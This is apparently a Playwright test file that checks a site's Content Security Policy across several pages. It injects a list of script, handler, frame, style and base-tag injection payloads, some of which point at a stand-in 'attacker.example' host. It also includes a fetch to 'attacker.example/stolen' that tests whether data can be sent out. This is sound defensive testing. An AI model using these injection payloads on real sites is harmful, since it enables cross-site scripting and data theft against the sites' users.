import { expect, test, type Page } from '@playwright/test';
import { securityHeaders } from '../deploy/policy.ts';

const attacker = 'https://attacker.example';
const note = (what: string) => `window.injected = [...(window.injected ?? []), '${what}']`;

/** What someone would write into a page if they could. Each leaves a trace where the browser obeys it. */
const injections = [
  `<script>${note('an inline script')}</script>`,
  `<script type="module">${note('an inline module')}</script>`,
  `<script src="data:text/javascript,${encodeURIComponent(note('a script in an address'))}"></script>`,
  `<script src="${attacker}/x.js"></script>`,
  `<img src="/favicon.svg" alt="" onload="${note('a handler')}">`,
  `<svg onload="${note('a handler of a drawing')}"></svg>`,
  `<iframe srcdoc="<script>${note('a script in a frame').replaceAll('window', 'parent')}</script>"></iframe>`,
  `<iframe src="${attacker}/frame.html"></iframe>`,
  `<a id="injected-link" href="javascript:${note('a script behind a link')}">x</a>`,
  '<style>:root { --injected: yes }</style>',
  '<p id="injected-style" style="--injected: yes">x</p>',
  `<link rel="stylesheet" href="${attacker}/x.css">`,
  `<img src="${attacker}/pixel.png" alt="">`,
  `<base href="${attacker}/">`,
].join('\n');

/** Collects what the policy refuses in a page, from its first byte on, and requests that reach the attacker all the same. */
async function watch(page: Page) {
  const reached: string[] = [];
  await page.route(`${attacker}/**`, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: note('a script of another host') });
  });
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { refused });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  const read = <T>(name: string) => page.evaluate((property) => Reflect.get(window, property) as T, name);
  return { reached, refused: () => read<string[]>('refused'), injected: () => read<string[] | undefined>('injected') };
}

/** Opens a page with the injections in it; what `change` does to it comes on top. */
async function inject(page: Page, path: string, change = (html: string) => html) {
  await page.route(`**${path}`, async (route) => {
    const answer = await route.fetch();
    const html = change(await answer.text());
    await route.fulfill({ response: answer, body: html.replace(/<main[^>]*>/, (main) => main + injections) });
  });
  await page.goto(path);
  await page.locator('#injected-link').evaluate((link: HTMLAnchorElement) => link.click());
}

/** What the two injected styles did: to the whole page, and to the element that carries one. */
const styled = (page: Page) =>
  Promise.all(
    [':root', '#injected-style'].map((selector) =>
      page.locator(selector).evaluate((element) => getComputedStyle(element).getPropertyValue('--injected')),
    ),
  );

/** With islands, without, and from the server's own answer. The built tests read the policy of every kind of page. */
for (const path of ['/', '/check-first', '/help', '/no-such-page']) {
  test(`G8 ${path}: the policy refuses nothing of ours, and every script and style written into it`, async ({
    page,
  }) => {
    const { refused, reached, injected } = await watch(page);
    const response = await page.goto(path);
    const headers = response?.headers() ?? {};
    for (const [name, value] of securityHeaders) expect(headers[name.toLowerCase()], name).toBe(value);
    expect(await refused()).toEqual([]);

    await inject(page, path);
    await expect
      .poll(refused)
      .toEqual(
        expect.arrayContaining([
          'script-src-elem',
          'script-src-attr',
          'style-src-elem',
          'style-src-attr',
          'img-src',
          'frame-src',
          'base-uri',
        ]),
      );
    expect(await injected()).toBeUndefined();
    expect(await styled(page)).toEqual(['', '']);
    expect(
      await page.evaluate(() =>
        fetch('https://attacker.example/stolen').then(
          () => 'sent',
          () => 'refused',
        ),
      ),
    ).toBe('refused');
    expect(reached).toEqual([]);
  });
}

test('G8 without the policy of the page all of that runs, so the tests above can fail', async ({ page }) => {
  const { injected } = await watch(page);
  await inject(page, '/terms', (html) => html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''));
  await expect
    .poll(async () => (await injected())?.sort())
    .toEqual([
      'a handler',
      'a handler of a drawing',
      'a script behind a link',
      'a script in a frame',
      'a script in an address',
      'a script of another host',
      'an inline module',
      'an inline script',
    ]);
  expect(await styled(page)).toEqual(['yes', 'yes']);
});
